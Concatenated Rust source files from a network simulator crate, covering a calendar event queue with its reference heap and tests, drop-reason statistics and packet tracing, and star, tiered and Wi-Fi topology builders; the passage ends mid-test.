                    let bucket = &mut self.buckets[self.head];
                    let drained = !bucket.is_empty();
                    if drained {
                        self.wheel_len -= bucket.len();
                        for e in bucket.drain(..) {
                            self.active.push(Reverse(e));
                        }
                    }
                    self.head = (self.head + 1) & BUCKET_MASK;
                    self.bucket_base = self.bucket_base.saturating_add(BUCKET_SPAN_NANOS);
                    if drained {
                        break;
                    }
                }
                continue;
            }
            // Wheel empty: reposition it at the overflow minimum and cascade
            // everything now inside the window into buckets.
            let Some(Reverse(min)) = self.overflow.peek() else {
                return false;
            };
            self.bucket_base = min.time_nanos & !(BUCKET_SPAN_NANOS - 1);
            // Per-item offset test (not a precomputed horizon): near
            // u64::MAX a saturated horizon would exclude the overflow
            // minimum itself and this loop would never make progress.
            while let Some(Reverse(e)) = self.overflow.peek() {
                let offset = (e.time_nanos - self.bucket_base) >> BUCKET_BITS;
                if offset >= NUM_BUCKETS as u64 {
                    break;
                }
                let Some(Reverse(e)) = self.overflow.pop() else {
                    unreachable!("peeked entry exists");
                };
                let idx = (self.head + offset as usize) & BUCKET_MASK;
                self.buckets[idx].push(e);
                self.wheel_len += 1;
            }
        }
    }
}

impl<T> TimeOrderedQueue<T> for EventQueue<T> {
    fn push(&mut self, time: SimTime, seq: u64, item: T) {
        self.push_keyed(Keyed { time_nanos: time.as_nanos(), seq, item });
        self.len += 1;
        if self.len > self.peak_len {
            self.peak_len = self.len;
        }
    }

    fn peek_key(&mut self) -> Option<(SimTime, u64)> {
        if !self.settle() {
            return None;
        }
        self.active
            .peek()
            .map(|Reverse(e)| (SimTime::from_nanos(e.time_nanos), e.seq))
    }

    fn pop(&mut self) -> Option<(SimTime, u64, T)> {
        if !self.settle() {
            return None;
        }
        let Reverse(e) = self.active.pop().expect("settled queue has an active event");
        self.len -= 1;
        Some((SimTime::from_nanos(e.time_nanos), e.seq, e.item))
    }

    fn len(&self) -> usize {
        self.len
    }
}

/// The pre-overhaul model: one binary heap over `(time, seq)`. Kept as the
/// executable specification the calendar queue is tested against, and as the
/// baseline `perfsnap` measures speedups from.
pub struct ReferenceQueue<T> {
    heap: BinaryHeap<Reverse<Keyed<T>>>,
    peak_len: usize,
}

impl<T> std::fmt::Debug for ReferenceQueue<T> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ReferenceQueue")
            .field("len", &self.heap.len())
            .field("peak_len", &self.peak_len)
            .finish_non_exhaustive()
    }
}

impl<T> Default for ReferenceQueue<T> {
    fn default() -> Self {
        Self::new()
    }
}

impl<T> ReferenceQueue<T> {
    /// An empty reference queue.
    pub fn new() -> Self {
        ReferenceQueue { heap: BinaryHeap::new(), peak_len: 0 }
    }

    /// Largest number of events that were ever pending simultaneously.
    pub fn peak_len(&self) -> usize {
        self.peak_len
    }
}

impl<T> TimeOrderedQueue<T> for ReferenceQueue<T> {
    fn push(&mut self, time: SimTime, seq: u64, item: T) {
        self.heap.push(Reverse(Keyed { time_nanos: time.as_nanos(), seq, item }));
        if self.heap.len() > self.peak_len {
            self.peak_len = self.heap.len();
        }
    }

    fn peek_key(&mut self) -> Option<(SimTime, u64)> {
        self.heap
            .peek()
            .map(|Reverse(e)| (SimTime::from_nanos(e.time_nanos), e.seq))
    }

    fn pop(&mut self) -> Option<(SimTime, u64, T)> {
        let Reverse(e) = self.heap.pop()?;
        Some((SimTime::from_nanos(e.time_nanos), e.seq, e.item))
    }

    fn len(&self) -> usize {
        self.heap.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn drain<Q: TimeOrderedQueue<u32>>(q: &mut Q) -> Vec<(u64, u64, u32)> {
        let mut out = Vec::new();
        while let Some((t, s, v)) = q.pop() {
            out.push((t.as_nanos(), s, v));
        }
        out
    }

    #[test]
    fn pops_in_time_then_seq_order() {
        let mut q = EventQueue::new();
        q.push(SimTime::from_nanos(50), 2, 0u32);
        q.push(SimTime::from_nanos(10), 1, 1);
        q.push(SimTime::from_nanos(50), 0, 2);
        q.push(SimTime::from_nanos(10), 3, 3);
        let order: Vec<u32> = drain(&mut q).into_iter().map(|(_, _, v)| v).collect();
        assert_eq!(order, vec![1, 3, 2, 0]);
    }

    #[test]
    fn spans_buckets_and_overflow() {
        let mut q = EventQueue::new();
        // One event per region: active-past (after advancing), wheel, overflow.
        let far = BUCKET_SPAN_NANOS * (NUM_BUCKETS as u64) * 3 + 17;
        q.push(SimTime::from_nanos(far), 0, 0u32);
        q.push(SimTime::from_nanos(5), 1, 1);
        q.push(SimTime::from_nanos(BUCKET_SPAN_NANOS * 4 + 3), 2, 2);
        assert_eq!(q.len(), 3);
        let popped = drain(&mut q);
        assert_eq!(
            popped,
            vec![(5, 1, 1), (BUCKET_SPAN_NANOS * 4 + 3, 2, 2), (far, 0, 0)]
        );
        assert!(q.is_empty());
    }

    #[test]
    fn push_below_cursor_still_pops_first() {
        let mut q = EventQueue::new();
        q.push(SimTime::from_nanos(BUCKET_SPAN_NANOS * 10), 0, 0u32);
        assert_eq!(q.pop().map(|(t, ..)| t.as_nanos()), Some(BUCKET_SPAN_NANOS * 10));
        // The cursor has advanced past bucket 10; a (clamped) push at an
        // earlier nanosecond must still come out before later events.
        q.push(SimTime::from_nanos(BUCKET_SPAN_NANOS * 12), 1, 1);
        q.push(SimTime::from_nanos(3), 2, 2);
        assert_eq!(q.pop().map(|(.., v)| v), Some(2));
        assert_eq!(q.pop().map(|(.., v)| v), Some(1));
    }

    #[test]
    fn overflow_repositioning_cascades() {
        let mut q = EventQueue::new();
        let span = BUCKET_SPAN_NANOS * NUM_BUCKETS as u64;
        // All far beyond the initial wheel horizon, in reverse order.
        for (i, t) in [span * 9 + 100, span * 5 + 7, span * 5 + 3].iter().enumerate() {
            q.push(SimTime::from_nanos(*t), i as u64, i as u32);
        }
        let popped = drain(&mut q);
        assert_eq!(
            popped,
            vec![
                (span * 5 + 3, 2, 2),
                (span * 5 + 7, 1, 1),
                (span * 9 + 100, 0, 0)
            ]
        );
    }

    #[test]
    fn peek_matches_pop() {
        let mut q = EventQueue::new();
        for i in 0..100u64 {
            q.push(SimTime::from_nanos((i * 7919) % 1000), i, i as u32);
        }
        while let Some(key) = q.peek_key() {
            let (t, s, _) = q.pop().expect("peeked");
            assert_eq!(key, (t, s));
        }
        assert_eq!(q.peek_key(), None);
    }

    #[test]
    fn peak_len_tracks_high_water_mark() {
        let mut q = EventQueue::new();
        for i in 0..10u64 {
            q.push(SimTime::from_nanos(i), i, ());
        }
        for _ in 0..5 {
            q.pop();
        }
        q.push(SimTime::from_nanos(0), 11, ());
        assert_eq!(q.peak_len(), 10);
        assert_eq!(q.len(), 6);
    }

    #[test]
    fn near_max_times_do_not_wrap() {
        let mut q = EventQueue::new();
        q.push(SimTime::from_nanos(u64::MAX - 1), 0, 0u32);
        q.push(SimTime::from_nanos(u64::MAX), 1, 1);
        q.push(SimTime::from_nanos(0), 2, 2);
        let popped = drain(&mut q);
        assert_eq!(popped.len(), 3);
        assert_eq!(popped[0].2, 2);
        assert_eq!(popped[1].2, 0);
        assert_eq!(popped[2].2, 1);
    }

    #[test]
    fn overdue_overflow_pops_before_later_wheel_events() {
        // Regression: X parks beyond the wheel horizon; the cursor then
        // advances past X's time by draining a *later* wheel bucket; a new
        // event Y > X lands in the active region. X must still pop first.
        let wheel_span = BUCKET_SPAN_NANOS * NUM_BUCKETS as u64;
        let mut q = EventQueue::new();
        let x = wheel_span * 2;
        q.push(SimTime::from_nanos(x), 0, 0u32); // beyond horizon → overflow
        q.push(SimTime::from_nanos(wheel_span * 2 - 10), 1, 1); // far wheel bucket
        q.push(SimTime::from_nanos(5), 2, 2); // near-term
        assert_eq!(q.pop().map(|(.., v)| v), Some(2));
        // Draining the wheel_span*2-10 bucket moves the cursor past X.
        assert_eq!(q.pop().map(|(.., v)| v), Some(1));
        q.push(SimTime::from_nanos(x + 5), 3, 3); // Y, later than X
        assert_eq!(q.pop().map(|(.., v)| v), Some(0), "X pops before Y");
        assert_eq!(q.pop().map(|(.., v)| v), Some(3));
    }

    #[test]
    fn try_clone_with_preserves_order_and_counters() {
        let mut q = EventQueue::new();
        let far = BUCKET_SPAN_NANOS * NUM_BUCKETS as u64 * 2;
        for (seq, t) in [far, 5, BUCKET_SPAN_NANOS * 3, far + 9, 1].iter().enumerate() {
            q.push(SimTime::from_nanos(*t), seq as u64, seq as u32);
        }
        // Pop a couple to advance the cursor and exercise sweeps, then push
        // more so every region (active, wheel, overflow) is populated.
        q.pop();
        q.pop();
        q.push(SimTime::from_nanos(2), 10, 10);
        q.push(SimTime::from_nanos(far * 3), 11, 11);

        let mut cloned = q
            .try_clone_with(|_, _, v| Ok::<u32, ()>(*v))
            .expect("infallible mapper");
        assert_eq!(cloned.len(), q.len());
        assert_eq!(cloned.peak_len(), q.peak_len());
        assert_eq!(cloned.overflow_sweeps(), q.overflow_sweeps());
        assert_eq!(drain(&mut cloned), drain(&mut q));

        // A failing mapper surfaces its error.
        let mut q = EventQueue::new();
        q.push(SimTime::from_nanos(1), 0, 1u32);
        assert_eq!(q.try_clone_with(|_, _, _| Err::<u32, &str>("nope")).err(), Some("nope"));
    }

    #[test]
    fn reference_queue_agrees_on_a_mixed_schedule() {
        let mut wheel = EventQueue::new();
        let mut reference = ReferenceQueue::new();
        let times = [0u64, 5, 5, 70_000, 70_000, 1 << 30, (1 << 30) + 1, 3];
        for (seq, t) in times.iter().enumerate() {
            wheel.push(SimTime::from_nanos(*t), seq as u64, seq as u32);
            reference.push(SimTime::from_nanos(*t), seq as u64, seq as u32);
        }
        assert_eq!(drain(&mut wheel), drain(&mut reference));
    }
}
