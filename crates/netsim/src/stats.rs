//! Global simulation statistics and the packet trace hook.

use crate::ids::NodeId;
use crate::packet::{Packet, TransportProto};
use crate::time::SimTime;
use std::net::SocketAddr;

/// Why a packet was dropped.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum DropReason {
    /// A drop-tail queue overflowed.
    QueueOverflow,
    /// The destination or a transit node was down.
    NodeDown,
    /// The TTL/hop limit reached zero.
    TtlExpired,
    /// No route to the destination.
    NoRoute,
    /// No application bound to the destination port.
    PortUnreachable,
    /// The shared medium dropped the frame after exhausting retries.
    WifiRetryLimit,
    /// Random wireless loss (interference).
    WifiLoss,
    /// An ingress filter (deployed defense) rejected the packet.
    Filtered,
    /// The link was administratively down (fault injection): frames queued
    /// or in flight at the flap, or offered while the link stayed down.
    LinkDown,
    /// Random corruption/loss on a wired link (fault injection; the wired
    /// analogue of [`DropReason::WifiLoss`]).
    LinkLoss,
}

impl DropReason {
    /// Every reason, in declaration order. Kept in sync with the enum by
    /// the exhaustive matches in [`Stats::record_drop`],
    /// [`Stats::drop_count`], [`DropReason::as_str`], and the
    /// `every_reason_has_a_counter` test.
    pub const ALL: [DropReason; 10] = [
        DropReason::QueueOverflow,
        DropReason::NodeDown,
        DropReason::TtlExpired,
        DropReason::NoRoute,
        DropReason::PortUnreachable,
        DropReason::WifiRetryLimit,
        DropReason::WifiLoss,
        DropReason::Filtered,
        DropReason::LinkDown,
        DropReason::LinkLoss,
    ];

    /// Stable lowercase name (used in telemetry traces).
    pub fn as_str(self) -> &'static str {
        match self {
            DropReason::QueueOverflow => "queue_overflow",
            DropReason::NodeDown => "node_down",
            DropReason::TtlExpired => "ttl_expired",
            DropReason::NoRoute => "no_route",
            DropReason::PortUnreachable => "port_unreachable",
            DropReason::WifiRetryLimit => "wifi_retry_limit",
            DropReason::WifiLoss => "wifi_loss",
            DropReason::Filtered => "filtered",
            DropReason::LinkDown => "link_down",
            DropReason::LinkLoss => "link_loss",
        }
    }
}

/// Aggregate counters maintained by the simulator.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Stats {
    /// Packets handed to the network layer by applications.
    pub packets_sent: u64,
    /// Packets delivered to an application or sink.
    pub packets_delivered: u64,
    /// Payload+header bytes delivered to applications.
    pub bytes_delivered: u64,
    /// Drops due to queue overflow.
    pub dropped_queue_overflow: u64,
    /// Drops because a node was down.
    pub dropped_node_down: u64,
    /// Drops due to TTL expiry.
    pub dropped_ttl: u64,
    /// Drops because no route matched.
    pub dropped_no_route: u64,
    /// Drops because no socket was bound to the destination port.
    pub dropped_port_unreachable: u64,
    /// Frames lost to Wi-Fi collisions (individual collision events).
    pub wifi_collisions: u64,
    /// Frames dropped after exhausting Wi-Fi retries.
    pub dropped_wifi_retries: u64,
    /// Frames dropped to random wireless loss.
    pub dropped_wifi_loss: u64,
    /// Packets rejected by ingress filters (deployed defenses).
    pub dropped_filtered: u64,
    /// Frames dropped because their link was administratively down.
    pub dropped_link_down: u64,
    /// Frames lost to injected corruption on a wired link.
    pub dropped_link_loss: u64,
    /// Peak bytes buffered in link/channel queues at any instant.
    pub peak_buffered_bytes: u64,
    /// Total events executed.
    pub events_executed: u64,
}

impl Stats {
    /// Total packets dropped for any reason.
    ///
    /// For unicast-only workloads, `packets_sent ==
    /// packets_delivered + total_dropped()` (packet conservation; frames
    /// in flight during a node flush are charged to their eventual
    /// delivery outcome, not to the flush). Multicast breaks the equality
    /// by design: one sent packet may be delivered at many nodes.
    pub fn total_dropped(&self) -> u64 {
        self.dropped_queue_overflow
            + self.dropped_node_down
            + self.dropped_ttl
            + self.dropped_no_route
            + self.dropped_port_unreachable
            + self.dropped_wifi_retries
            + self.dropped_wifi_loss
            + self.dropped_filtered
            + self.dropped_link_down
            + self.dropped_link_loss
    }

    /// Charges one drop to its per-reason counter. Every drop site in
    /// the simulator (link queues, Wi-Fi, routing, filters, admin
    /// flushes) goes through here; the match is deliberately exhaustive
    /// so a new [`DropReason`] without a counter fails to compile.
    pub fn record_drop(&mut self, reason: DropReason) {
        match reason {
            DropReason::QueueOverflow => self.dropped_queue_overflow += 1,
            DropReason::NodeDown => self.dropped_node_down += 1,
            DropReason::TtlExpired => self.dropped_ttl += 1,
            DropReason::NoRoute => self.dropped_no_route += 1,
            DropReason::PortUnreachable => self.dropped_port_unreachable += 1,
            DropReason::WifiRetryLimit => self.dropped_wifi_retries += 1,
            DropReason::WifiLoss => self.dropped_wifi_loss += 1,
            DropReason::Filtered => self.dropped_filtered += 1,
            DropReason::LinkDown => self.dropped_link_down += 1,
            DropReason::LinkLoss => self.dropped_link_loss += 1,
        }
    }

    /// The counter for one reason (read side of [`Stats::record_drop`]).
    pub fn drop_count(&self, reason: DropReason) -> u64 {
        match reason {
            DropReason::QueueOverflow => self.dropped_queue_overflow,
            DropReason::NodeDown => self.dropped_node_down,
            DropReason::TtlExpired => self.dropped_ttl,
            DropReason::NoRoute => self.dropped_no_route,
            DropReason::PortUnreachable => self.dropped_port_unreachable,
            DropReason::WifiRetryLimit => self.dropped_wifi_retries,
            DropReason::WifiLoss => self.dropped_wifi_loss,
            DropReason::Filtered => self.dropped_filtered,
            DropReason::LinkDown => self.dropped_link_down,
            DropReason::LinkLoss => self.dropped_link_loss,
        }
    }
}

/// What happened to a packet, for tracing.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TraceKind {
    /// Packet handed to the network by an application.
    Sent,
    /// Packet delivered at its destination node.
    Delivered,
    /// Packet dropped.
    Dropped(DropReason),
    /// Packet forwarded by a transit node.
    Forwarded,
}

/// One record in the packet trace (a Wireshark-lite view of the simulation).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TraceRecord {
    /// When the event occurred.
    pub time: SimTime,
    /// What happened.
    pub kind: TraceKind,
    /// Node at which the event occurred.
    pub node: NodeId,
    /// Packet id.
    pub packet_id: u64,
    /// Source address.
    pub src: SocketAddr,
    /// Destination address.
    pub dst: SocketAddr,
    /// Transport protocol.
    pub proto: TransportProto,
    /// Total wire bytes.
    pub wire_bytes: u32,
}

impl TraceRecord {
    pub(crate) fn for_packet(time: SimTime, kind: TraceKind, node: NodeId, pkt: &Packet) -> Self {
        TraceRecord {
            time,
            kind,
            node,
            packet_id: pkt.id,
            src: pkt.src,
            dst: pkt.dst,
            proto: pkt.proto,
            wire_bytes: pkt.wire_bytes(),
        }
    }
}

impl TraceRecord {
    /// Header row for [`TraceRecord::to_csv_row`].
    pub fn csv_header() -> &'static str {
        "time_s,kind,node,packet_id,src,dst,proto,wire_bytes"
    }

    /// One CSV row (a Wireshark-export-like line).
    pub fn to_csv_row(&self) -> String {
        format!(
            "{:.6},{:?},{},{},{},{},{},{}",
            self.time.as_secs_f64(),
            self.kind,
            self.node,
            self.packet_id,
            self.src,
            self.dst,
            self.proto,
            self.wire_bytes
        )
    }
}

/// A packet trace consumer.
pub type TraceHook = Box<dyn FnMut(&TraceRecord)>;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn total_dropped_sums_all_reasons() {
        let mut s = Stats::default();
        for reason in DropReason::ALL {
            s.record_drop(reason);
        }
        assert_eq!(s.total_dropped(), DropReason::ALL.len() as u64);
    }

    /// Compile-time guard: adding a `DropReason` variant forces updates
    /// here, in `ALL`, and in the `record_drop`/`drop_count`/`as_str`
    /// matches before the crate builds again.
    #[test]
    fn every_reason_has_a_counter() {
        fn listed(reason: DropReason) {
            match reason {
                DropReason::QueueOverflow
                | DropReason::NodeDown
                | DropReason::TtlExpired
                | DropReason::NoRoute
                | DropReason::PortUnreachable
                | DropReason::WifiRetryLimit
                | DropReason::WifiLoss
                | DropReason::Filtered
                | DropReason::LinkDown
                | DropReason::LinkLoss => {
                    assert!(DropReason::ALL.contains(&reason), "{reason:?} missing from ALL")
                }
            }
        }
        let mut s = Stats::default();
        for (i, reason) in DropReason::ALL.into_iter().enumerate() {
            listed(reason);
            assert_eq!(s.drop_count(reason), 0);
            for _ in 0..=i {
                s.record_drop(reason);
            }
            assert_eq!(s.drop_count(reason), i as u64 + 1, "{reason:?} counter wired");
            assert!(!reason.as_str().is_empty());
        }
        let expected: u64 = (1..=DropReason::ALL.len() as u64).sum();
        assert_eq!(s.total_dropped(), expected, "total_dropped sums every counter");
    }

    #[test]
    fn trace_record_csv() {
        use crate::packet::{Packet, Payload};
        use std::net::SocketAddr;
        let a: SocketAddr = "10.0.0.1:1000".parse().expect("addr");
        let b: SocketAddr = "10.0.0.2:80".parse().expect("addr");
        let pkt = Packet::udp(a, b, Payload::empty(), 100);
        let rec = TraceRecord::for_packet(
            SimTime::from_millis(1500),
            TraceKind::Delivered,
            NodeId::from_index(3),
            &pkt,
        );
        let row = rec.to_csv_row();
        assert!(row.starts_with("1.500000,Delivered,n3,"));
        assert!(row.contains("10.0.0.1:1000"));
        assert_eq!(
            TraceRecord::csv_header().split(',').count(),
            row.split(',').count()
        );
    }

    #[test]
    fn default_stats_are_zero() {
        let s = Stats::default();
        assert_eq!(s.packets_sent, 0);
        assert_eq!(s.total_dropped(), 0);
    }
}
