//! Topology builders for common scenarios.
//!
//! The paper's simulated network (§III-D) conceptually collapses the
//! Internet path between any two components into "a single connection line
//! with specific latency and bandwidth". [`StarTopology`] builds exactly
//! that: a central fabric node (router / simulated Internet) with one
//! point-to-point link per component, each with its own rate and delay.

use crate::ids::{IfaceId, NodeId};
use crate::link::LinkConfig;
use crate::sim::Simulator;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

/// Allocates dual-stack addresses out of `10.0.0.0/8` and `fd00::/16`.
#[derive(Debug, Clone)]
pub struct AddrAllocator {
    next: u32,
}

impl AddrAllocator {
    /// Starts allocating from host number 1.
    pub fn new() -> Self {
        AddrAllocator { next: 1 }
    }

    /// Allocates the next dual-stack (v4, v6) address pair.
    ///
    /// Host numbers map little-octet-first into `10.x.y.z`, so the first
    /// 65534 pairs are bit-identical to the historical `/16` allocator
    /// (pinned by recorded traces); beyond that the third byte of the
    /// network part starts counting, opening the space to ~16.7M hosts for
    /// million-device worlds.
    ///
    /// # Panics
    ///
    /// Panics after 2^24 - 2 allocations (the 10.0.0.0/8 host space).
    pub fn next_pair(&mut self) -> (IpAddr, IpAddr) {
        let n = self.next;
        assert!(n < 0x0100_0000, "address space exhausted");
        self.next += 1;
        let v4 = IpAddr::V4(Ipv4Addr::new(
            10,
            ((n >> 16) & 0xFF) as u8,
            ((n >> 8) & 0xFF) as u8,
            (n & 0xFF) as u8,
        ));
        let v6 = IpAddr::V6(Ipv6Addr::new(0xfd00, 0, 0, 0, 0, 0, (n >> 16) as u16, n as u16));
        (v4, v6)
    }
}

impl Default for AddrAllocator {
    fn default() -> Self {
        AddrAllocator::new()
    }
}

/// A star topology around a central fabric node.
///
/// The fabric forwards unicast and relays multicast, modelling the paper's
/// "simulated Internet" that joins Attacker, Devs, and TServer.
#[derive(Debug, Clone)]
pub struct StarTopology {
    fabric: NodeId,
    alloc: AddrAllocator,
    members: Vec<StarMember>,
}

/// One node attached to the star.
#[derive(Debug, Clone, Copy)]
pub struct StarMember {
    /// The attached node.
    pub node: NodeId,
    /// The node's edge interface.
    pub iface: IfaceId,
    /// The node's IPv4 address.
    pub addr_v4: IpAddr,
    /// The node's IPv6 address.
    pub addr_v6: IpAddr,
}

impl StarTopology {
    /// Creates the central fabric node.
    pub fn new(sim: &mut Simulator, name: &str) -> Self {
        let fabric = sim.add_node(name);
        sim.set_forwarding(fabric, true);
        sim.set_multicast_relay(fabric, true);
        StarTopology {
            fabric,
            alloc: AddrAllocator::new(),
            members: Vec::new(),
        }
    }

    /// The central fabric node.
    pub fn fabric(&self) -> NodeId {
        self.fabric
    }

    /// Members attached so far.
    pub fn members(&self) -> &[StarMember] {
        &self.members
    }

    /// Attaches `node` to the star over a link with `config`, assigning it a
    /// dual-stack address pair and default routes.
    pub fn attach(&mut self, sim: &mut Simulator, node: NodeId, config: LinkConfig) -> StarMember {
        let (v4, v6) = self.alloc.next_pair();
        let (fv4, fv6) = self.alloc.next_pair();
        let member_iface = sim.add_iface(node, vec![v4, v6]);
        let fabric_iface = sim.add_iface(self.fabric, vec![fv4, fv6]);
        sim.connect_p2p(member_iface, fabric_iface, config)
            .expect("freshly created interfaces are unattached");
        sim.add_default_route(node, member_iface);
        sim.add_route(self.fabric, v4, 32, fabric_iface);
        sim.add_route(self.fabric, v6, 128, fabric_iface);
        let member = StarMember {
            node,
            iface: member_iface,
            addr_v4: v4,
            addr_v6: v6,
        };
        self.members.push(member);
        member
    }
}

/// A two-tier topology: a backbone router fronting several regional
/// routers, each with a finite uplink.
///
/// The paper acknowledges (§V-C) that "all components share uniform
/// connections, while real-world factors like distance and network quality
/// impact device-device links". A tiered fabric lifts that limitation:
/// devices in the same region share a regional uplink, so congestion
/// appears at two levels (regional uplinks first, then the backbone).
#[derive(Debug, Clone)]
pub struct TieredTopology {
    backbone: NodeId,
    regions: Vec<NodeId>,
    alloc: AddrAllocator,
    members: Vec<StarMember>,
}

impl TieredTopology {
    /// Creates the backbone and `regions` regional routers, each connected
    /// to the backbone with `uplink`.
    ///
    /// # Panics
    ///
    /// Panics if `regions` is zero.
    pub fn new(sim: &mut Simulator, name: &str, regions: usize, uplink: LinkConfig) -> Self {
        assert!(regions > 0, "at least one region is required");
        let backbone = sim.add_node(format!("{name}-backbone"));
        sim.set_forwarding(backbone, true);
        sim.set_multicast_relay(backbone, true);
        let mut alloc = AddrAllocator::new();
        let mut region_nodes = Vec::with_capacity(regions);
        for r in 0..regions {
            let region = sim.add_node(format!("{name}-region-{r}"));
            sim.set_forwarding(region, true);
            sim.set_multicast_relay(region, true);
            let (rv4, rv6) = alloc.next_pair();
            let (bv4, bv6) = alloc.next_pair();
            let r_if = sim.add_iface(region, vec![rv4, rv6]);
            let b_if = sim.add_iface(backbone, vec![bv4, bv6]);
            sim.connect_p2p(r_if, b_if, uplink.clone())
                .expect("freshly created interfaces are unattached");
            sim.add_default_route(region, r_if);
            region_nodes.push(region);
        }
        TieredTopology {
            backbone,
            regions: region_nodes,
            alloc,
            members: Vec::new(),
        }
    }

    /// The backbone node.
    pub fn backbone(&self) -> NodeId {
        self.backbone
    }

    /// Number of regions.
    pub fn region_count(&self) -> usize {
        self.regions.len()
    }

    /// Members attached so far (backbone and regional).
    pub fn members(&self) -> &[StarMember] {
        &self.members
    }

    /// Attaches `node` directly to the backbone (servers, the attacker).
    pub fn attach_backbone(
        &mut self,
        sim: &mut Simulator,
        node: NodeId,
        config: LinkConfig,
    ) -> StarMember {
        let member = Self::attach_to(
            sim,
            &mut self.alloc,
            self.backbone,
            node,
            config,
        );
        self.members.push(member);
        member
    }

    /// Attaches `node` to a regional router (devices); `region` indexes
    /// modulo the region count, so round-robin assignment is just the
    /// device index.
    pub fn attach_region(
        &mut self,
        sim: &mut Simulator,
        region: usize,
        node: NodeId,
        config: LinkConfig,
    ) -> StarMember {
        let region_node = self.regions[region % self.regions.len()];
        let member = Self::attach_to(sim, &mut self.alloc, region_node, node, config);
        // The backbone reaches the member via the region's uplink.
        let region_uplink = sim.node(self.backbone).ifaces()[region % self.regions.len()];
        sim.add_route(self.backbone, member.addr_v4, 32, region_uplink);
        sim.add_route(self.backbone, member.addr_v6, 128, region_uplink);
        self.members.push(member);
        member
    }

    fn attach_to(
        sim: &mut Simulator,
        alloc: &mut AddrAllocator,
        router: NodeId,
        node: NodeId,
        config: LinkConfig,
    ) -> StarMember {
        let (v4, v6) = alloc.next_pair();
        let (fv4, fv6) = alloc.next_pair();
        let member_iface = sim.add_iface(node, vec![v4, v6]);
        let router_iface = sim.add_iface(router, vec![fv4, fv6]);
        sim.connect_p2p(member_iface, router_iface, config)
            .expect("freshly created interfaces are unattached");
        sim.add_default_route(node, member_iface);
        sim.add_route(router, v4, 32, router_iface);
        sim.add_route(router, v6, 128, router_iface);
        StarMember {
            node,
            iface: member_iface,
            addr_v4: v4,
            addr_v6: v6,
        }
    }
}

/// A Wi-Fi access topology: a router (access point) joining stations over
/// one shared CSMA/CA channel, with wired point-to-point attachments for
/// core components — the shape of the paper's physical validation setup
/// (Raspberry-Pi Devs on a Netgear router, servers on Ethernet).
#[derive(Debug, Clone)]
pub struct WifiTopology {
    root: NodeId,
    chan: crate::ids::ChannelId,
    gateway_iface: IfaceId,
    alloc: AddrAllocator,
    members: Vec<StarMember>,
}

impl WifiTopology {
    /// Creates the router node with a gateway interface on a fresh Wi-Fi
    /// channel configured by `config`.
    pub fn new(sim: &mut Simulator, name: &str, config: crate::wifi::WifiConfig) -> Self {
        let root = sim.add_node(name);
        sim.set_forwarding(root, true);
        sim.set_multicast_relay(root, true);
        let chan = sim.add_wifi_channel(config);
        let mut alloc = AddrAllocator::new();
        let (gv4, gv6) = alloc.next_pair();
        let gateway_iface = sim.add_iface(root, vec![gv4, gv6]);
        sim.attach_wifi(gateway_iface, chan)
            .expect("freshly created interfaces are unattached");
        sim.set_wifi_gateway(chan, gateway_iface);
        WifiTopology {
            root,
            chan,
            gateway_iface,
            alloc,
            members: Vec::new(),
        }
    }

    /// The router (access point) node.
    pub fn root(&self) -> NodeId {
        self.root
    }

    /// The shared channel.
    pub fn channel(&self) -> crate::ids::ChannelId {
        self.chan
    }

    /// Members attached so far (wired and wireless).
    pub fn members(&self) -> &[StarMember] {
        &self.members
    }

    /// Attaches `node` to the router over a wired point-to-point link
    /// (servers, the attacker).
    pub fn attach_wired(
        &mut self,
        sim: &mut Simulator,
        node: NodeId,
        config: LinkConfig,
    ) -> StarMember {
        let (v4, v6) = self.alloc.next_pair();
        let (fv4, fv6) = self.alloc.next_pair();
        let member_iface = sim.add_iface(node, vec![v4, v6]);
        let root_iface = sim.add_iface(self.root, vec![fv4, fv6]);
        sim.connect_p2p(member_iface, root_iface, config)
            .expect("freshly created interfaces are unattached");
        sim.add_default_route(node, member_iface);
        sim.add_route(self.root, v4, 32, root_iface);
        sim.add_route(self.root, v6, 128, root_iface);
        let member = StarMember {
            node,
            iface: member_iface,
            addr_v4: v4,
            addr_v6: v6,
        };
        self.members.push(member);
        member
    }

    /// Joins `node` to the shared medium as a station, shaped to
    /// `rate_bps` at the application layer (how the paper's lab limits its
    /// Raspberry Pis to IoT data rates).
    pub fn attach_station(
        &mut self,
        sim: &mut Simulator,
        node: NodeId,
        rate_bps: u64,
    ) -> StarMember {
        let (v4, v6) = self.alloc.next_pair();
        let member_iface = sim.add_iface(node, vec![v4, v6]);
        sim.attach_wifi(member_iface, self.chan)
            .expect("freshly created interfaces are unattached");
        sim.set_wifi_station_shaping(self.chan, member_iface, rate_bps);
        sim.add_default_route(node, member_iface);
        // The router reaches stations out its gateway interface; the
        // channel resolves the destination station by address.
        sim.add_route(self.root, v4, 32, self.gateway_iface);
        sim.add_route(self.root, v6, 128, self.gateway_iface);
        let member = StarMember {
            node,
            iface: member_iface,
            addr_v4: v4,
            addr_v6: v6,
        };
        self.members.push(member);
        member
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::app::Application;
    use crate::packet::{Packet, Payload};
    use crate::sim::Ctx;
    use crate::time::SimTime;
    use std::net::SocketAddr;
    use std::time::Duration;

    #[test]
    fn allocator_is_sequential_and_dual_stack() {
        let mut a = AddrAllocator::new();
        let (v4, v6) = a.next_pair();
        assert_eq!(v4, IpAddr::V4(Ipv4Addr::new(10, 0, 0, 1)));
        assert_eq!(v6, IpAddr::V6(Ipv6Addr::new(0xfd00, 0, 0, 0, 0, 0, 0, 1)));
        let (v4b, _) = a.next_pair();
        assert_eq!(v4b, IpAddr::V4(Ipv4Addr::new(10, 0, 0, 2)));
    }

    #[test]
    fn allocator_crosses_octet_boundary() {
        let mut a = AddrAllocator::new();
        for _ in 0..255 {
            a.next_pair();
        }
        let (v4, _) = a.next_pair();
        assert_eq!(v4, IpAddr::V4(Ipv4Addr::new(10, 0, 1, 0)));
    }

    #[test]
    fn allocator_widens_past_the_old_16_bit_space() {
        let mut a = AddrAllocator::new();
        for _ in 0..0xFFFE {
            a.next_pair();
        }
        // Host 0xFFFF is the first beyond the old /16 allocator's panic
        // point; everything before it must stay bit-identical (pinned by
